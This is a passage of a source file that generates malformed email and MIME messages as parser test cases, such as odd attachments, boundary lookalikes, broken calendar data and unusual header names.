  add("tnef-winmail", "application/ms-tnef winmail.dat with a TNEF signature and random content", head("tnef", ['Content-Type: multipart/mixed; boundary="tn"']), "\r\n--tn\r\nContent-Type: text/plain\r\n\r\nsee winmail.dat\r\n--tn\r\nContent-Type: application/ms-tnef; name=\"winmail.dat\"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"winmail.dat\"\r\n\r\n", b64(bytes([0x78, 0x9f, 0x3e, 0x22, 0x01, 0x00], randomBytes(2048, 13))), "\r\n--tn--\r\n");
  add("binary-part-with-boundary-lookalikes", "a binary part containing CRLF--boundary lookalikes", head("binary lookalikes", ['Content-Type: multipart/mixed; boundary="bb"']), "\r\n--bb\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: binary\r\nContent-Disposition: attachment; filename=\"x.bin\"\r\n\r\n", randomBytes(1000, 17), "\r\n--bbb\r\n--b\r\n", randomBytes(1000, 18), "\r\n--bb--\r\n");
  attachment("png-truncated", "a PNG that is only its signature", "attachment; filename=cut.png", "image/png");
  simple("calendar-garbage", "text/calendar with broken iCalendar", "text/calendar; method=REQUEST", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nDTSTART:99999999T999999Z\r\nSUMMARY:\u0000\r\n");
  simple("unknown-top-level-type", "a Content-Type without a slash", "garbage", "body");
  simple("content-type-empty", "an empty Content-Type", "", "body");

  // ── Header-name oddities ────────────────────────────────────────────────────────────────────
  add("header-name-non-ascii", "8-bit and UTF-8 bytes inside header names", "Sübject: umlaut name\r\n", [0xff, 0xfe], ": binary name\r\nX-\u65e5\u672c: cjk name\r\n", head("non-ascii names"), "\r\nbody\r\n");
  add("header-name-spaces", "header names containing spaces and tabs", "Sub ject: spaced\r\nX Header\t: tabbed\r\n", head("spaced names"), "\r\nbody\r\n");
  add("header-mime-version-2", "MIME-Version 2.0 and garbage versions", head("mime 2", ["MIME-Version: 2.0", "MIME-Version: banana"]), "\r\nbody\r\n");

  return out;
}
